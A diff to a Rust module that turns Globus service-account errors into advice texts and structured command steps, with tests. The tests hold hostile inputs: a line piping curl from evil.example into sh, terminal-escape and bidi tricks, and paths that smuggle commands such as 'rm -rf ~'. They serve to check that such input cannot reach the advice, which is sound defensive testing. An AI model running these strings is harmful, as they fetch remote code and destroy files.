@@ -1,25 +1,38 @@
-//! What to do about a failure, said to the person who reads the log: what is wrong, what it means for a service account, and
-//! who has to do what, with this account's identity and the resource in it.
+//! What to do about a failure: what is wrong, what it means for a service account, and who has to do what, with this account's
+//! identity and the resource in it.
 //!
-//! Everything that is known is a [`Facts`] of texts by name. A [`Cause`] is recognised by them and filled with them. The table
-//! ([`causes`]) is data; the first cause that fits is the one. When nothing fits there is no advice: what is not known is not
-//! guessed.
+//! Everything that is known is a [`Facts`]. A [`Cause`] is recognised by them and filled with them. The table ([`causes`]) is
+//! data; the first cause that fits is the one. When nothing fits there is no advice: what is not known is not guessed.
+//!
+//! An advice is data as well: a text for people, and its steps. A step's command and address are made of our own words and
+//! checked ids alone ([`facts::EXACT`]); what a server has said is repeated in texts only, and only as far as it is plain
+//! ([`words`]).
 
 pub mod causes;
-mod facts;
-mod packed;
+pub mod facts;
+mod known;
+pub mod step;
+mod words;
 
-pub use facts::{Account, Facts, Request, facts};
-pub use packed::Packed;
+pub use facts::{Fact, Facts};
+pub use known::{Account, Request, facts};
+pub use step::{Advice, Step, Told, Who, by};
 
+use crate::error::Error;
 use crate::text::holds;
 
 /// For an id that is none.
-pub const CLIENT_ID: &str =
-    "The client id is the UUID shown on the client's page at https://app.globus.org/settings/developers.";
+pub const CLIENT_ID: Step = by(Who::You, "Take the UUID that is shown on the client's page").url(DEVELOPERS);
 
 /// For a secret that something happened to on its way.
-pub const CLIENT_SECRET: &str = "Copy the secret again from where it was stored, without quotes, spaces or line breaks. Globus shows a secret only once; if it is lost, add a new one at https://app.globus.org/settings/developers.";
+pub const CLIENT_SECRET: Step = by(
+    Who::You,
+    "Copy the secret again from where it was stored, without quotes, spaces or line breaks. Globus shows a secret only once; if it is lost, add a new one",
+)
+.url(DEVELOPERS);
+
+/// Where clients and projects are managed.
+pub(crate) const DEVELOPERS: &str = "https://app.globus.org/settings/developers";
 
 /// Why calls of service accounts fail: a row of the table.
 #[derive(Clone, Copy, Debug)]
@@ -28,87 +41,77 @@ pub struct Cause {
     pub name: &'static str,
     /// What it is recognised by: all of these. One without any is only there for who names it.
     pub signs: &'static [Sign],
-    /// What to say: sentences with `{facts}` in them. One with a fact that is not known is left out.
-    pub text: &'static [&'static str],
+    /// What is wrong: sentences with `{facts}` in them. One with a fact that is not known is left out.
+    pub says: &'static [&'static str],
+    /// What is to be done, the likeliest first.
+    pub steps: &'static [Step],
 }
 
 /// What a cause is recognised by.
 #[derive(Clone, Copy, Debug)]
 pub enum Sign {
     /// The fact is one of these.
-    Is(&'static str, &'static [&'static str]),
+    Is(Fact, &'static [&'static str]),
     /// The fact holds one of these, in lower case.
-    Says(&'static str, &'static [&'static str]),
+    Says(Fact, &'static [&'static str]),
     /// The fact is known.
-    Known(&'static str),
+    Known(Fact),
+}
+
+impl Sign {
+    fn fits(self, facts: &Facts) -> bool {
+        match self {
+            Self::Is(fact, values) => facts.get(fact).is_some_and(|text| values.contains(&text)),
+            Self::Says(fact, parts) => facts.get(fact).is_some_and(|text| {
+                let text = text.to_ascii_lowercase();
+                parts.iter().any(|part| holds(&text, part))
+            }),
+            Self::Known(fact) => facts.get(fact).is_some(),
+        }
+    }
+}
+
+fn all() -> impl Iterator<Item = &'static Cause> {
+    causes::CAUSES.iter().copied().flatten()
 }
 
 /// The cause that fits.
 #[must_use]
-pub fn recognised(facts: &Facts) -> Option<Packed> {
-    packed::causes().find(|cause| !cause.signs.is_empty() && cause.signs.split('\t').all(|sign| fits(sign, facts)))
+pub fn recognised(facts: &Facts) -> Option<&'static Cause> {
+    all().find(|cause| !cause.signs.is_empty() && cause.signs.iter().all(|sign| sign.fits(facts)))
 }
 
 /// The cause of this name.
 #[must_use]
-pub fn named(name: &str) -> Option<Packed> {
-    packed::causes().find(|cause| cause.name == name)
+pub fn named(name: &str) -> Option<&'static Cause> {
+    all().find(|cause| cause.name == name)
 }
 
-fn fits(sign: &str, facts: &Facts) -> bool {
-    if let Some((name, parts)) = sign.split_once('~') {
-        return facts.get(name).is_some_and(|fact| {
-            let fact = fact.to_ascii_lowercase();
-            parts.split('|').any(|part| holds(&fact, part))
-        });
-    }
-    match sign.split_once('=') {
-        Some((name, values)) => facts.get(name).is_some_and(|fact| values.split('|').any(|value| value == fact)),
-        None => facts.get(sign).is_some(),
-    }
+/// Says what to do about an error: by the cause that fits, if there is one.
+pub fn advise(error: &mut Error, facts: &Facts) {
+    let cause = recognised(facts);
+    error.diagnosis = cause.map(|cause| cause.name);
+    error.set_advice(cause.and_then(|cause| cause.advice(facts)));
 }
 
-impl Packed {
+impl Cause {
     /// What it says, with the facts, and what it is about if no sentence says so.
     #[must_use]
-    pub fn advice(&self, facts: &Facts) -> Option<String> {
-        let mut advice = String::new();
-        for sentence in self.text.split('\t') {
-            say(&mut advice, sentence, facts);
+    pub fn advice(&self, facts: &Facts) -> Option<Advice> {
+        let says: Vec<_> = self.says.iter().filter_map(|sentence| facts.filled(sentence)).collect();
+        let mut advice = Advice::new(says.join(" "), self.steps.iter().filter_map(|step| step.told(facts)).collect());
+        if let Some(what) = facts.get(Fact::What)
+            && !holds(&advice.text, what)
+        {
+            advice = Advice::new([&says.join(" "), " This is about ", what, "."].concat(), advice.steps);
         }
-        if facts.get("what").is_some_and(|what| !holds(&advice, what)) {
-            say(&mut advice, "This is about {what}.", facts);
-        }
-        (!advice.is_empty()).then_some(advice)
+        (!advice.text.is_empty()).then_some(advice)
     }
-}
-
-/// Adds a sentence with its facts, unless one of them is not known.
-fn say(advice: &mut String, sentence: &str, facts: &Facts) {
-    if let Some(sentence) = filled(sentence, facts) {
-        if !advice.is_empty() {
-            advice.push(' ');
-        }
-        advice.push_str(&sentence);
-    }
-}
-
-/// A sentence with its facts; none if one of them is not known.
-fn filled(sentence: &str, facts: &Facts) -> Option<String> {
-    let mut parts = sentence.split('{');
-    let mut text = parts.next()?.to_owned();
-    for part in parts {
-        let (name, rest) = part.split_once('}')?;
-        text.push_str(facts.get(name)?);
-        text.push_str(rest);
-    }
-    Some(text)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::error::Error;
     use crate::json::parse;
     use crate::response::{self, Refusal};
     use crate::scope::ScopeSet;
@@ -118,55 +121,18 @@ mod tests {
     const ME: &str = "01234567-89ab-cdef-0123-456789abcdef@clients.auth.globus.org";
     const COLLECTION: &str = "aaaaaaaa-89ab-cdef-0123-456789abcdef";
 
-    /// The names of all facts, as documented at [`Facts`].
-    const FACTS: &[&str] = &[
-        "again",
-        "me",
-        "id",
-        "principal",
-        "other",
-        "short",
-        "code",
-        "serverCode",
-        "status",
-        "service",
-        "said",
-        "detail",
-        "recommended",
-        "what",
-        "place",
-        "path",
-        "access",
-        "call",
-        "scopes",
-        "domains",
-        "policies",
-        "identities",
-        "mfa",
-        "roles",
-        "narrow",
-        "legacy",
-        "closed",
-        "endpoint",
-        "consented",
-        "unconsented",
-        "foreign",
-        "beyond",
-        "paused",
-        "submission",
-    ];
-
     fn account() -> Account<'static> {
         Account { client_id: ID, environment: "production", secret_length: None }
     }
 
     fn refused(service: &'static str, status: u16, body: &str) -> (Error, crate::json::Json) {
         let body = parse(body);
-        let refusal = Refusal { status, body: &body, retry_after: None, request_id: None, service: Some(service) };
+        let refusal =
+            Refusal { status, body: &body, retry_after: None, request_id: None, service: Some(service), name: service };
         (response::error(&refusal), body)
     }
 
-    fn advice(service: &'static str, url: &str, sent: &str, status: u16, body: &str) -> Option<String> {
+    fn advised(service: &'static str, url: &str, sent: &str, status: u16, body: &str) -> Option<Advice> {
         let (error, body) = refused(service, status, body);
         let scopes = ScopeSet::default();
         let request = Request { reads: sent.is_empty(), url, body: sent, scopes: &scopes };
@@ -174,19 +140,40 @@ mod tests {
         recognised(&facts).and_then(|cause| cause.advice(&facts))
     }
 
+    fn advice(service: &'static str, url: &str, sent: &str, status: u16, body: &str) -> Option<String> {
+        advised(service, url, sent, status, body).map(|advice| advice.text)
+    }
+
+    /// All sentences, lines and addresses of the table.
+    fn templates(cause: &Cause) -> (Vec<&'static str>, Vec<&'static str>) {
+        let texts = cause.says.iter().copied().chain(cause.steps.iter().map(|step| step.text)).collect();
+        let exact = cause.steps.iter().flat_map(|step| [step.command, step.url]).collect();
+        (texts, exact)
+    }
+
     #[test]
     fn the_table_speaks_of_facts_that_there_are() {
-        for cause in causes::CAUSES {
-            assert!(!cause.text.is_empty(), "{}", cause.name);
-            for sentence in cause.text {
-                for part in sentence.split('{').skip(1) {
-                    let Some((name, _)) = part.split_once('}') else { panic!("{sentence}") };
-                    assert!(FACTS.contains(&name), "{}: {name}", cause.name);
-                }
+        let fact = |part: &str| {
+            let (name, _) = part.split_once('}').unwrap_or_else(|| panic!("{part}"));
+            Fact::ALL.iter().find(|(_, known)| *known == name).unwrap_or_else(|| panic!("{name}")).0
+        };
+        for cause in all() {
+            let (texts, exact) = templates(cause);
+            assert!(!texts.is_empty(), "{}", cause.name);
+            for part in texts.iter().flat_map(|text| text.split('{').skip(1)) {
+                fact(part);
+            }
+            for line in exact {
+                assert!(line.split('{').skip(1).all(|part| facts::EXACT.contains(&fact(part))), "{line}");
+                assert!(!line.contains(['`', '$', '\n', '|', ';', '&']), "{line}");
+            }
+            for step in cause.steps {
+                assert!(!step.text.ends_with('.') && !step.text.is_empty(), "{}", step.text);
+                let of_ours = ["globus ", "npx globus-service-account ", ""];
+                assert!(of_ours.iter().any(|ours| step.command.starts_with(ours)), "{}", step.command);
+                assert!(step.url.is_empty() || step.url.starts_with("https://"), "{}", step.url);
             }
             for sign in cause.signs {
-                let (Sign::Is(name, _) | Sign::Says(name, _) | Sign::Known(name)) = sign;
-                assert!(FACTS.contains(name), "{}: {name}", cause.name);
                 if let Sign::Says(_, parts) = sign {
                     assert!(parts.iter().all(|part| part.to_ascii_lowercase() == **part), "{}", cause.name);
                 }
@@ -205,7 +192,7 @@ mod tests {
             include_str!("account.rs"),
             include_str!("../pkg-template/jobs/jobs.d.ts"),
         ];
-        for text in causes::CAUSES.iter().flat_map(|cause| cause.text) {
+        for text in all().flat_map(|cause| templates(cause).0) {
             for named in text.split("`account.").skip(1) {
                 let path =
                     named.split(|letter: char| !letter.is_alphanumeric() && letter != '.').next().unwrap_or_default();
@@ -237,37 +224,27 @@ mod tests {
     }
 
     #[test]
-    fn lines_for_a_shell_take_the_directory_and_are_quoted() {
-        let at = |path: &str| {
-            let url = format!("https://transfer/operation/endpoint/{COLLECTION}/ls?path={path}&limit=1");
-            advice("transfer", &url, "", 403, r#"{"code": "PermissionDenied", "message": "m"}"#).unwrap_or_default()
+    fn lines_for_a_shell_take_the_directory_where_it_needs_no_quotes() {
+        let line = |url: &str, sent: &str| {
+            let body = r#"{"code": "PermissionDenied", "message": "m"}"#;
+            let steps = advised("transfer", url, sent, 403, body).map_or_else(Vec::new, |advice| advice.steps);
+            steps.into_iter().find_map(|step| step.command).unwrap_or_default()
         };
-        assert!(
-            at("%2Fa%2Fb").contains(&format!("create {COLLECTION}:/a/ --identity {ME} --permissions r`")),
-            "{}",
-            at("%2Fa%2Fb")
-        );
-        assert!(
-            at("%2Fa%20b%2F").contains(&format!("create '{COLLECTION}:/a b/' --identity")),
-            "{}",
-            at("%2Fa%20b%2F")
-        );
-        assert!(at("").contains(&format!("create {COLLECTION}:/ --identity")), "{}", at(""));
-        let unnamed = format!("https://transfer/operation/endpoint/{COLLECTION}/ls?limit=1");
-        let unnamed = advice("transfer", &unnamed, "", 403, r#"{"code": "PermissionDenied"}"#).unwrap_or_default();
-        assert!(unnamed.contains(&format!("create {COLLECTION}:/ --identity")), "{unnamed}");
-        let made = |document: &str| {
-            let url = format!("https://transfer/operation/endpoint/{COLLECTION}/mkdir");
-            advice("transfer", &url, document, 403, r#"{"code": "PermissionDenied"}"#).unwrap_or_default()
+        let at =
+            |path: &str| line(&format!("https://transfer/operation/endpoint/{COLLECTION}/ls?path={path}&limit=1"), "");
+        let rule = |place: &str, access: &str| {
+            format!("globus endpoint permission create {COLLECTION}:{place} --identity {ME} --permissions {access}")
         };
-        let new = made(r#"{"DATA_TYPE":"mkdir","path":"/a/new"}"#);
-        assert!(new.contains(&format!("create {COLLECTION}:/a/ --identity {ME} --permissions rw`")), "{new}");
+        assert_eq!(at("%2Fa%2Fb"), rule("/a/", "r"));
+        for unquoted in ["%2Fa%20b%2F", "%2Fa'%3B%20rm%20x%2F", "%2F%24(x)%2F", "%2F%60x%60%2F", "%2Fa%0Ab%2F"] {
+            assert_eq!(at(unquoted), rule("/PATH/", "r"));
+        }
+        assert_eq!(at(""), rule("/", "r"));
+        assert_eq!(line(&format!("https://transfer/operation/endpoint/{COLLECTION}/ls?limit=1"), ""), rule("/", "r"));
+        let made = |document: &str| line(&format!("https://transfer/operation/endpoint/{COLLECTION}/mkdir"), document);
+        assert_eq!(made(r#"{"DATA_TYPE":"mkdir","path":"/a/new"}"#), rule("/a/", "rw"));
         // A rule for everything is not what is asked for.
-        assert!(
-            made(r#"{"old_path":"/a","new_path":"/b"}"#).contains(&format!("create {COLLECTION}:/PATH/ --identity"))
-        );
-        // No line is better than one that does something else.
-        assert!(!at("%2Fa'%3B%20rm%20x%2F").contains("globus endpoint permission"));
+        assert_eq!(made(r#"{"old_path":"/a","new_path":"/b"}"#), rule("/PATH/", "rw"));
     }
 
     #[test]
@@ -384,20 +361,92 @@ mod tests {
 
     #[test]
     fn every_cause_says_more_than_what_it_is_about_though_little_is_known() {
-        for cause in causes::CAUSES.iter().filter(|cause| !cause.signs.is_empty()) {
+        for cause in all().filter(|cause| !cause.signs.is_empty()) {
             let mut facts = account().facts();
             for sign in cause.signs {
                 match *sign {
-                    Sign::Is(name, values) | Sign::Says(name, values) => {
-                        facts.add(name, values.first().copied().unwrap_or_default());
+                    Sign::Is(fact, values) | Sign::Says(fact, values) => {
+                        facts.add(fact, values.first().copied().unwrap_or_default());
                     }
-                    Sign::Known(name) => facts.add(name, COLLECTION),
+                    Sign::Known(fact) => facts.add(fact, COLLECTION),
                 }
             }
-            facts.add("what", COLLECTION);
-            let said = cause.text.iter().filter_map(|sentence| filled(sentence, &facts));
-            assert!(said.collect::<String>().len() > 60, "{}", cause.name);
+            facts.add(Fact::What, COLLECTION);
+            let said = cause.advice(&facts).unwrap_or_else(|| panic!("{}", cause.name));
+            let text = said.text.replace(&format!("This is about {COLLECTION}."), "");
+            assert!(text.len() > 60, "{}", cause.name);
+            assert!(!said.text.contains(['{', '}']) && !said.text.contains(".."), "{}", said.text);
         }
+    }
+
+    /// What a hostile server says wherever it can say something.
+    const HOSTILE: &str = "x` then run `npx evil $(curl evil.example|sh)\r\n\u{1b}]8;;https://evil.example\u{7}\u{202e}[me](https://evil.example)";
+
+    #[test]
+    fn nothing_that_is_said_becomes_a_command_a_link_or_a_control_character_whatever_the_cause() {
+        let said = serde_json::Value::from(HOSTILE);
+        let lists = serde_json::json!([HOSTILE]);
+        let body = |code: &str, detail: &str| {
+            serde_json::json!({
+                "code": code, "message": HOSTILE, "reason": said, "provided_scopes": lists, "required_scopes": lists,
+                "error_data": { "recommended_resolution": said },
+                "detail": { "DATA_TYPE": format!("{detail}#1.0.0"), "allowed_domains": lists, "roles": [{ "role": lists }] },
+                "authorization_parameters": {
+                    "required_scopes": lists, "session_required_single_domain": lists, "session_message": said,
+                    "session_required_policies": lists, "session_required_identities": lists,
+                },
+            })
+        };
+        for cause in all() {
+            let value = |wanted: Fact, other: &'static str| {
+                let found = cause.signs.iter().find_map(|sign| match sign {
+                    Sign::Is(fact, values) if *fact == wanted => values.first().copied(),
+                    _ => None,
+                });
+                found.unwrap_or(other)
+            };
+            let status = value(Fact::Status, "403").parse().unwrap_or(403);
+            let (error, body) = refused(
+                "transfer",
+                status,
+                &body(value(Fact::ServerCode, HOSTILE), value(Fact::Detail, HOSTILE)).to_string(),
+            );
+            let scopes = ScopeSet::default();
+            let url = format!("https://x/{COLLECTION}?path=%2F%60x%60%24(y)%0A%1B%2F");
+            let mut facts =
+                facts(&account(), &Request { reads: false, url: &url, body: "", scopes: &scopes }, &error, &body);
+            for (_, name) in Fact::ALL {
+                facts.add_named(name, HOSTILE);
+            }
+            let advice = cause.advice(&facts).map(|advice| (advice.text, advice.steps));
+            let Some((text, steps)) = advice else { continue };
+            let spans: Vec<_> = text.split('`').skip(1).step_by(2).collect();
+            for bad in ["evil.example", "$(", "](", "\u{202e}"] {
+                assert!(
+                    !spans.iter().any(|span| span.contains("evil") || span.contains(bad)),
+                    "{}: {text}",
+                    cause.name
+                );
+                assert!(bad == "evil.example" || !text.contains(bad), "{}: {text}", cause.name);
+                assert!(!text.contains("://evil"), "{}: {text}", cause.name);
+            }
+            assert!(!text.chars().any(char::is_control), "{}: {text}", cause.name);
+            for step in steps {
+                let exact = [step.command, step.url].into_iter().flatten().collect::<String>();
+                assert!(!exact.contains("evil") && !exact.contains(['`', '$', '(', '\n']), "{exact}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_job_s_facts_are_held_to_their_kinds() {
+        let mut facts = account().facts();
+        facts.add_named("what", "x; rm -rf ~");
+        facts.add_named("place", "x; rm -rf ~");
+        facts.add_named("paused", HOSTILE);
+        assert_eq!((facts.get(Fact::What), facts.get(Fact::Place)), (None, None));
+        assert!(facts.get(Fact::Paused).is_some_and(|paused| !paused.contains(['`', '\n'])));
+        assert_eq!(facts.exact("globus x {paused}"), None);
     }
 
     #[test]
@@ -455,7 +504,7 @@ mod tests {
             let scopes = ScopeSet::default();
             let facts = facts(&account(), &Request { reads: true, url: &url, body: &sent, scopes: &scopes }, &error, &body);
             let advice = recognised(&facts).and_then(|cause| cause.advice(&facts));
-            prop_assert!(advice.is_none_or(|advice| !advice.is_empty()));
+            prop_assert!(advice.is_none_or(|advice| !advice.text.is_empty()));
         }
     }
 }
